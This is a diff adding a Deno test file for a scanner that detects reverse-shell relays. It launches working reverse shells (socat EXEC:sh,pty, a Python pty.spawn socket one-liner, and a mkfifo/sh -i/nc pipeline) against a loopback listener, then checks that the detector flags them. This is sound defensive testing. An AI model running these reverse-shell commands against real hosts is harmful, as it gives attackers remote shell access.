@@ -1,0 +1,226 @@
+/**
+ * Relay reverse shells with real tools against a listener on 127.0.0.1 that this test holds: socat with a pty,
+ * a python pty.spawn relay, and `mkfifo f; sh -i < f | nc … > f`; and a shell in tmux, which must stay quiet.
+ * A test whose tool is missing is ignored, with the reason printed. Every process is killed at the end.
+ */
+import assert from "node:assert/strict";
+import { ioc } from "../../src/scanners/ioc/index.ts";
+import type { Finding } from "../../src/core/finding.ts";
+import { runOne } from "../helpers.ts";
+
+function missing(...paths: string[]): string | undefined {
+  for (const p of paths) {
+    try {
+      Deno.statSync(p);
+    } catch {
+      const why = `${p} is not installed (apt-get install socat netcat-openbsd tmux python3)`;
+      console.log(`ignored: ${why}`);
+      return why;
+    }
+  }
+  return undefined;
+}
+
+/** A TCP listener on 127.0.0.1 that accepts and holds every connection until closed. */
+function listener() {
+  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const conns: Deno.Conn[] = [];
+  (async () => {
+    for await (const c of l) conns.push(c);
+  })().catch(() => {});
+  return {
+    port: (l.addr as Deno.NetAddr).port,
+    close() {
+      for (const c of conns) c.close();
+      l.close();
+    },
+  };
+}
+
+/** Children of `ppid` (from /proc) running `exe`. */
+function childrenOf(ppid: number, exe: RegExp): number[] {
+  const out: number[] = [];
+  for (const e of Deno.readDirSync("/proc")) {
+    if (!/^\d+$/.test(e.name)) continue;
+    try {
+      const stat = Deno.readTextFileSync(`/proc/${e.name}/stat`);
+      const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
+      if (Number(fields[1]) === ppid && exe.test(Deno.readLinkSync(`/proc/${e.name}/exe`))) {
+        out.push(Number(e.name));
+      }
+    } catch {
+      // gone
+    }
+  }
+  return out;
+}
+
+/** Waits (bounded) until `find` returns a pid. */
+async function waitFor(what: string, find: () => number | undefined): Promise<number> {
+  for (let i = 0; i < 250; i++) {
+    const pid = find();
+    if (pid !== undefined) return pid;
+    await new Promise((r) => setTimeout(r, 20));
+  }
+  throw new Error(`never saw ${what}`);
+}
+
+function spawn(cmd: string, args: string[]): Deno.ChildProcess {
+  return new Deno.Command(cmd, { args, stdin: "null", stdout: "null", stderr: "null" }).spawn();
+}
+
+async function kill(...children: Deno.ChildProcess[]): Promise<void> {
+  for (const c of children) {
+    try {
+      c.kill("SIGKILL");
+    } catch {
+      // gone
+    }
+    await c.status;
+  }
+}
+
+function killPid(pid: number | undefined): void {
+  if (pid === undefined) return;
+  try {
+    Deno.kill(pid, "SIGKILL");
+  } catch {
+    // gone
+  }
+}
+
+async function relayFindings(pid: number): Promise<Finding[]> {
+  const r = await runOne(ioc, "/");
+  assert.equal(r.status, "ok", r.reason);
+  return r.findings.filter((f) =>
+    f.check_id.startsWith("ioc.process.reverse_shell") && (f.metadata.pids as string[]).includes(String(pid))
+  );
+}
+
+const SH = /\/(dash|bash|sh)$/;
+
+Deno.test({
+  name: "ioc relay live: socat TCP:… EXEC:sh,pty — the shell on the pty is named with socat as its relay",
+  ignore: missing("/usr/bin/socat") !== undefined,
+  async fn() {
+    const l = listener();
+    const socat = spawn("/usr/bin/socat", [`TCP:127.0.0.1:${l.port}`, "EXEC:/bin/sh,pty,setsid,stderr"]);
+    let shell: number | undefined;
+    try {
+      shell = await waitFor("socat's shell", () => childrenOf(socat.pid, SH)[0]);
+      const fs = await relayFindings(shell);
+      assert.deepEqual(fs.map((f) => `${f.check_id} ${f.severity}`), [
+        "ioc.process.reverse_shell_relay critical",
+      ]);
+      const m = fs[0].metadata;
+      assert.deepEqual([m.channel, m.pairing, m.relay_pid, m.relay_exe], [
+        "pty",
+        "tty-index",
+        socat.pid,
+        "/usr/bin/socat",
+      ]);
+      assert.equal(m.remote, `127.0.0.1:${l.port}`);
+    } finally {
+      killPid(shell);
+      await kill(socat);
+      l.close();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "ioc relay live: python -c 'pty.spawn(\"/bin/sh\")' on a socket — the shell is named, python is a direct one",
+  ignore: missing("/usr/bin/python3") !== undefined,
+  async fn() {
+    const l = listener();
+    const code =
+      "import os, pty, socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); " +
+      "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')";
+    const py = spawn("/usr/bin/python3", ["-c", code, String(l.port)]);
+    let shell: number | undefined;
+    try {
+      shell = await waitFor("python's shell", () => childrenOf(py.pid, SH)[0]);
+      const fs = await relayFindings(shell);
+      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
+      assert.deepEqual([fs[0].metadata.relay_pid, fs[0].metadata.pairing], [py.pid, "tty-index"]);
+      const direct = await relayFindings(py.pid);
+      assert.deepEqual(direct.map((f) => `${f.check_id} ${f.metadata.kind}`), [
+        "ioc.process.reverse_shell interpreter",
+      ]);
+    } finally {
+      killPid(shell);
+      await kill(py);
+      l.close();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "ioc relay live: mkfifo f; sh -i < f | nc 127.0.0.1 PORT > f — the shell is named with nc as its relay",
+  ignore: missing("/usr/bin/nc", "/usr/bin/mkfifo") !== undefined,
+  async fn() {
+    const l = listener();
+    const dir = Deno.makeTempDirSync({ prefix: "ioc-fifo-" });
+    const outer = spawn("/bin/sh", [
+      "-c",
+      `mkfifo ${dir}/f && /bin/sh -i < ${dir}/f 2>&1 | /usr/bin/nc 127.0.0.1 ${l.port} > ${dir}/f`,
+    ]);
+    let shell: number | undefined;
+    try {
+      shell = await waitFor(
+        "the fifo shell",
+        () =>
+          childrenOf(outer.pid, SH).find((pid) =>
+            Deno.readTextFileSync(`/proc/${pid}/cmdline`).includes("-i")
+          ),
+      );
+      const nc = await waitFor("nc", () => childrenOf(outer.pid, /\/nc(\.openbsd)?$/)[0]);
+      await waitFor("nc's connection", () =>
+        Deno.readDirSync(`/proc/${nc}/fd`).some((e) => {
+            try {
+              return Deno.readLinkSync(`/proc/${nc}/fd/${e.name}`).startsWith("socket:");
+            } catch {
+              return false;
+            }
+          })
+          ? nc
+          : undefined);
+      const fs = await relayFindings(shell);
+      assert.deepEqual(fs.map((f) => f.check_id), ["ioc.process.reverse_shell_relay"]);
+      assert.deepEqual([fs[0].metadata.channel, fs[0].metadata.pairing, fs[0].metadata.relay_pid], [
+        "pipe",
+        "fifo",
+        nc,
+      ]);
+    } finally {
+      killPid(shell);
+      for (const pid of childrenOf(outer.pid, /./)) killPid(pid);
+      await kill(outer);
+      l.close();
+      Deno.removeSync(dir, { recursive: true });
+    }
+  },
+});
+
+Deno.test({
+  name: "ioc relay live: a shell in tmux is quiet (its pty's holder has no network connection)",
+  ignore: missing("/usr/bin/tmux") !== undefined,
+  async fn() {
+    const sock = `sys-scan-test-${Deno.pid}`;
+    const tmux = (...args: string[]) =>
+      new TextDecoder().decode(
+        new Deno.Command("/usr/bin/tmux", { args: ["-L", sock, "-f", "/dev/null", ...args], stdin: "null" })
+          .outputSync().stdout,
+      ).trim();
+    try {
+      tmux("new-session", "-d", "/bin/sh");
+      const pane = Number(tmux("display-message", "-p", "#{pane_pid}"));
+      assert.ok(pane > 0, "tmux started a pane");
+      assert.deepEqual(await relayFindings(pane), []);
+    } finally {
+      tmux("kill-server");
+    }
+  },
+});
